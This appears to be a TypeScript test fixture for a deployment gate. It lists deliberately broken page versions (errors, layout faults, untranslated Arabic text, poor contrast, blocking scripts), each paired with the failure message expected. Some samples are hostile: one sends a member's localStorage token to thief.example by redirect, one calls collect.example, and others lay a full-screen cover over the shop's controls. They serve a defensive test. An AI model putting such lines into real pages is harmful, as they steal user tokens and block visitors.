import { createHash } from 'node:crypto'

import type { Craft } from './crafted-remote.ts'

export const overlay = `const cover = document.createElement('div')
  cover.id = 'cover'
  cover.style.cssText = 'position: fixed; inset: 0; z-index: 99999'
  document.body.append(cover)`

const block = (ms: number) =>
  `for (const end = performance.now() + ${ms}; performance.now() < end;);`

/** 240 kB that no compression makes small. */
const filler = Array.from({ length: 3_750 }, (_, index) =>
  createHash('sha256').update(String(index)).digest('hex'),
).join('')

export type RefusedCraft = [name: string, craft: Craft, sentence: RegExp]

/**
 * Versions that must not go live because of their own pages, by the kind of fault: what they do, and what is said of
 * them. The first of a kind is opened by the end-to-end tests, all of them by `npm run bench -- gate`.
 */
export const refusedPages: RefusedCraft[][] = [
  [
    [
      'throws after two seconds',
      { effect: `setTimeout(() => { throw new Error('too late') }, 2000)` },
      /It fails: too late/,
    ],
    ['throws when it is shown', { effect: `throw new Error('at once')` }, /It fails: at once/],
    [
      'rejects a promise that nobody waits for',
      { effect: `void Promise.reject(new Error('unheard'))` },
      /It fails: unheard/,
    ],
    ['reports an error', { effect: `console.error('reported')` }, /It fails: reported/],
    [
      'throws for members only',
      { effect: `if (localStorage.token_link_dashboard) throw new Error('no member')` },
      /\((?:(?!visitor)[^)])*\): It fails: no member/,
    ],
    [
      'throws in Arabic only',
      { effect: `if (document.documentElement.lang === 'ar') throw new Error('not Arabic')` },
      /\(Arabic, [^;]+\): It fails: not Arabic/,
    ],
    [
      'throws on phones only',
      { effect: `if (innerWidth < 500) throw new Error('too narrow')` },
      /phone of 360 px, (light|dark), \d in the cart\): It fails: too narrow/,
    ],
    [
      'throws on small phones only',
      { effect: `if (innerWidth <= 375) throw new Error('too small')` },
      /\((?:(?! of 390 px)[^)])*phone of 360 px[^)]*\): It fails: too small/,
    ],
    [
      'throws on tablets only',
      { effect: `if (innerWidth > 500 && innerWidth < 900) throw new Error('between')` },
      /desktop of 768 px[^)]*\): It fails: between/,
    ],
  ],
  [
    [
      'throws in the dark only',
      {
        effect: `if (document.documentElement.classList.contains('dark')) throw new Error('too dark')`,
      },
      /\((?:(?!light)[^)])*\): It fails: too dark/,
    ],
  ],
  [
    [
      'throws for three products only',
      {
        effect: `if (JSON.parse(localStorage.addToCart).length === 3) throw new Error('too many')`,
      },
      /3 in the cart\): It fails: too many/,
    ],
    [
      'throws for an empty cart only',
      {
        effect: `if (JSON.parse(localStorage.addToCart).length === 0) throw new Error('too few')`,
      },
      /0 in the cart\): It fails: too few/,
    ],
  ],
  [
    [
      'is hydrated differently for members',
      {
        content: `typeof localStorage === 'object' && localStorage.token_link_dashboard ? h('p', null, t.heading) : null`,
      },
      /member.*The browser renders it otherwise than the server has/,
    ],
    [
      'is hydrated differently for everybody',
      { content: `h('p', { translate: 'no' }, String(Math.random()))` },
      /The browser renders it otherwise/,
    ],
  ],
  [
    [
      'registers a second React',
      { effect: '__REACT_DEVTOOLS_GLOBAL_HOOK__.inject({})' },
      /It renders with a React of its own/,
    ],
  ],
  [
    [
      'asks another origin',
      { effect: `fetch('https://collect.example/visit').catch(() => {})` },
      /It asks https:\/\/collect\.example|security policy stops.*collect\.example/,
    ],
  ],
  [
    [
      'carries the token off',
      {
        effect: `if (localStorage.token_link_dashboard) location.href = 'https://thief.example/?' + localStorage.token_link_dashboard`,
      },
      /member.*It leaves for https:\/\/thief\.example\/ without a click/,
    ],
    [
      'loads its document again',
      { effect: `setTimeout(() => location.reload(), 1000)` },
      /It leaves for \/probe-\S+ without a click/,
    ],
  ],
  [
    [
      'leads to another page',
      {
        effect: `setTimeout(() => { history.pushState(null, '', '/error'); dispatchEvent(new PopStateEvent('popstate')) }, 1000)`,
      },
      /It leads to \/error without a click/,
    ],
  ],
  [['opens a window', { effect: `open('/error')` }, /It opens a window without a click/]],
  [
    [
      'loads more than its budget',
      { entry: `const filler = '${filler}'` },
      /The first load of \/probe-\w .* needs .* more than its budget/,
    ],
  ],
  [['shows a dialog', { effect: `alert('Hello')` }, /It shows a dialog of the browser \(Hello\)/]],
  [
    ['has no heading', { heading: `h('h2', null, t.heading)` }, /It shows no heading/],
    [
      'hides its heading',
      { heading: `h('h1', { style: { opacity: 0 } }, t.heading)` },
      /It shows no heading/,
    ],
  ],
  [
    [
      'speaks English in Arabic',
      { ar: { intro: 'This page is ready for its first words.' } },
      /Arabic.*It shows “This page is ready for its first words.” in Arabic too/,
    ],
    [
      'says the same in other English words in Arabic',
      { ar: { intro: 'Our first words will come soon.' } },
      /Arabic.*It shows “Our first words will come soon.” in Arabic too/,
    ],
    [
      'has a short button in English in Arabic',
      { ar: { action: 'Buy now' } },
      /Arabic.*It shows “Buy now” in Arabic too/,
    ],
    [
      'names a button in English in Arabic',
      { content: `h('button', { type: 'button', 'aria-label': 'Close the list' }, '×')` },
      /Arabic.*It shows “Close the list” in Arabic too/,
    ],
    [
      'shows the id of a message',
      { en: { intro: 'probe.intro' } },
      /It shows probe\.intro in place/,
    ],
  ],
  [
    [
      'has text that is too pale',
      { content: `h('p', { style: { color: '#ddd', background: '#fff' } }, t.intro)` },
      /color contrast/,
    ],
    ['has a button without a name', { content: `h('button', { type: 'button' })` }, /Buttons must/],
  ],
  [
    [
      'covers the shop from within its region',
      { content: `h('div', { style: { position: 'fixed', inset: 0, zIndex: 99999 } })` },
      /Something lies on top of the shop's controls/,
    ],
    [
      'lets no click through',
      {
        effect: `document.body.style.pointerEvents = 'none'; return () => { document.body.style.pointerEvents = '' }`,
      },
      /Something lies on top of the shop's controls/,
    ],
  ],
  [['blocks the page when it is shown', { effect: block(5000) }, /It blocks the page for \d+ ms/]],
]
